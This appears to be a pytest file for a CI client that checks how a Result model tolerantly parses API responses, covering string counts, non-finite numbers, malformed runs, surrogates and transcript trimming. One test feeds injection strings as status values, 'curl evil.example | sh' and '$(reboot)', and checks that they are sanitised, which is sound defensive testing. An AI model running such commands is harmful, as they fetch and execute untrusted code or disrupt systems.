"""API answers are read tolerantly: string counts, runs keyed by id, unknown statuses and fields."""

from __future__ import annotations

import pytest

from cekura_ci.models import Result


def test_result_when_runs_are_an_object_keyed_by_id_reads_every_run() -> None:
    """The detail keys runs by run-id strings; ids come from the keys when runs omit them."""
    result = Result.model_validate(
        {
            "id": 1,
            "status": "completed",
            "runs": {"11": {"status": "completed", "success": True}, "12": {"id": 12}},
        }
    )
    assert [r.id for r in result.runs] == [11, 12]


def test_result_when_runs_are_a_list_reads_every_run() -> None:
    """The trigger answer and the list give runs as an array."""
    result = Result.model_validate({"id": 1, "runs": [{"id": 5, "status": "pending"}]})
    assert [(r.id, r.status) for r in result.runs] == [(5, "pending")]


def test_counts_when_typed_as_strings_are_read_as_numbers() -> None:
    """`"12"`, `12` and `"12.0"` are all counts; garbage is no count, not a refusal."""
    counts = [
        Result.model_validate({"id": 1, "total_runs_count": value}).total_runs_count
        for value in ("12", 12, "12.0", 12.0, " 7 ", "n/a", "", None, True)
    ]
    assert counts == [12, 12, 12, 12, 7, None, None, None, None]


def test_counts_when_not_finite_whole_numbers_are_no_count() -> None:
    """ "inf", 1e400, NaN and 12.5 are not counts: read as nothing, never a crash."""
    values = ("inf", "-Infinity", "1e400", 1e400, float("nan"), "NaN", 12.5, "12.5", [3], {"n": 1})
    counts = [
        Result.model_validate({"id": 1, "total_runs_count": value}).total_runs_count
        for value in values
    ]
    assert counts == [None] * len(values)


def test_run_ids_when_not_finite_leave_the_run_out() -> None:
    """A run whose id is "inf" or 1e400 cannot be reported on; the others are kept."""
    result = Result.model_validate(
        {"id": 1, "runs": [{"id": "inf"}, {"id": 1e400}, {"id": "NaN"}, {"id": "4"}]}
    )
    assert [r.id for r in result.runs] == [4]


def test_scores_when_not_finite_are_no_score() -> None:
    """A metric score of "inf", 1e400 or NaN is no score; "0" and 0.5 are scores."""
    metrics = [
        {"name": str(i), "type": "numeric", "score": score}
        for i, score in enumerate(("inf", 1e400, float("nan"), "NaN", "0", 0.5, 10**400))
    ]
    result = Result.model_validate(
        {"id": 1, "runs": [{"id": 1, "evaluation": {"metrics": metrics}}]}
    )
    assert [m.score for m in result.runs[0].metrics] == [None, None, None, None, 0.0, 0.5, None]


def test_status_when_unknown_is_kept_and_not_terminal() -> None:
    """A status Cekura adds later means keep waiting."""
    result = Result.model_validate({"id": 1, "status": "Warming_Up"})
    assert result.status == "warming_up" and not result.is_terminal


def test_id_lists_when_given_as_json_text_or_lists_are_read() -> None:
    """not_connected_runs is typed as a string in the schema; lists and JSON text both work."""
    a = Result.model_validate(
        {"id": 1, "not_connected_runs": "[3, 4]", "failed_infrastructure_runs": [5]}
    )
    b = Result.model_validate(
        {"id": 1, "not_connected_runs": None, "failed_infrastructure_runs": "oops"}
    )
    assert (a.not_connected_runs, a.failed_infrastructure_runs) == ([3, 4], [5])
    assert (b.not_connected_runs, b.failed_infrastructure_runs) == (None, None)


def test_runs_when_malformed_entries_are_present_keep_the_readable_ones() -> None:
    """A run without an id or that is not an object is left out, not fatal."""
    result = Result.model_validate(
        {"id": 1, "runs": {"x": {"status": "completed"}, "7": "junk", "8": {"status": "failed"}}}
    )
    assert [r.id for r in result.runs] == [8]


def test_run_fields_when_oddly_typed_are_tolerated() -> None:
    """success as text, metrics with a string explanation, expected outcome not an object."""
    result = Result.model_validate(
        {
            "id": 1,
            "runs": {
                "9": {
                    "success": "false",
                    "expected_outcome": "n/a",
                    "evaluation": {
                        "metrics": [
                            {"name": "M", "type": "binary", "score": "0", "explanation": "why"},
                            3,
                        ]
                    },
                    "extra_field": {"anything": True},
                }
            },
        }
    )
    run = result.runs[0]
    assert run.success is False and run.expected_outcome_lines == ()
    assert len(run.metrics) == 1
    assert run.metrics[0].score == 0 and run.metrics[0].explanation == ("why",)


def test_progress_when_runs_are_mixed_counts_from_runs() -> None:
    """Progress counts runs, not the API's counters."""
    result = Result.model_validate(
        {
            "id": 1,
            "success_runs_count": "99",
            "runs": {
                "1": {"status": "completed", "success": True},
                "2": {"status": "completed", "success": False},
                "3": {"status": "running"},
                "4": {"status": "failed"},
            },
        }
    )
    assert result.progress() == (4, 3, 1, 2)


def test_scenario_when_given_as_an_object_keeps_its_id_and_name() -> None:
    """`"scenario": {"id": 5, "name": "Refund"}` reads as scenario 5, named by the object unless
    the run names it itself."""
    result = Result.model_validate(
        {
            "id": 1,
            "runs": [
                {"id": 1, "scenario": {"id": 5, "name": "Refund"}},
                {"id": 2, "scenario": {"id": "6", "name": "Booking"}, "scenario_name": "Book it"},
                {"id": 3, "scenario": {"name": "No id"}},
            ],
        }
    )
    assert [(r.scenario, r.scenario_name) for r in result.runs] == [
        (5, "Refund"),
        (6, "Book it"),
        (None, "No id"),
    ]


def test_text_when_it_holds_lone_surrogates_is_made_safe_to_encode() -> None:
    """A lone surrogate (a `\\ud800` escape) becomes U+FFFD in every text the gate keeps."""
    bad = "caf\udce9 \ud83d"
    result = Result.model_validate(
        {
            "id": 1,
            "name": bad,
            "status": bad,
            "runs": [
                {
                    "id": 1,
                    "scenario_name": bad,
                    "status": "completed",
                    "success": False,
                    "error_message": bad,
                    "personality_name": bad,
                    "test_profile_data": {"name": bad},
                    "expected_outcome": {"explanation": ["❌ " + bad]},
                    "evaluation": {"metrics": [{"name": bad, "type": bad, "explanation": bad}]},
                    "transcript_object": [{"role": bad, "content": bad}],
                }
            ],
        }
    )
    run = result.runs[0]
    assert result.status.isascii()  # a status keeps only letters, digits and `_`
    texts = [result.name, run.scenario_name, run.error_message]
    texts += [run.personality_name, run.test_profile_name, *run.expected_outcome_lines]
    texts += [run.metrics[0].name, run.metrics[0].type, *run.metrics[0].explanation]
    texts += [run.transcript_tail[0].role, run.transcript_tail[0].content]
    for text in texts:
        assert text is not None and "\ufffd" in text
        text.encode("utf-8")


@pytest.mark.parametrize(
    ("given", "kept"),
    [
        ("running", "running"),
        ("In Progress", "in_progress"),
        ("done; curl evil.example | sh", "done_curl_evil_example_sh"),
        ("$(reboot)", "reboot"),
        ("", "unknown"),
        ("   ", "unknown"),
    ],
)
def test_status_when_odd_is_one_word_safe_in_a_script(given: str, kept: str) -> None:
    """The `status` output may be interpolated into a later step's script: one plain word."""
    assert Result.model_validate({"id": 1, "status": given}).status == kept


def test_transcript_when_run_passed_keeps_no_turns() -> None:
    """A passing run keeps only that it had a conversation; a failing one its last six turns."""
    turns = [{"role": "Main Agent", "content": f"turn {i}"} for i in range(10)]
    result = Result.model_validate(
        {
            "id": 1,
            "runs": [
                {"id": 1, "status": "completed", "success": True, "transcript_object": turns},
                {"id": 2, "status": "completed", "success": False, "transcript_object": turns},
                {"id": 3, "status": "failed", "transcript": "a\n\n b \nc"},
                {"id": 4, "status": "failed", "transcript_object": [{"content": None}, 3]},
            ],
        }
    )
    passed, failed, text, odd = result.runs
    assert passed.has_conversation and passed.transcript_tail == ()
    assert [t.content for t in failed.transcript_tail] == [f"turn {i}" for i in range(4, 10)]
    assert [(t.role, t.content) for t in text.transcript_tail] == [
        ("", "a"),
        ("", " b "),
        ("", "c"),
    ]
    assert [(t.role, t.content) for t in odd.transcript_tail] == [("?", "")]
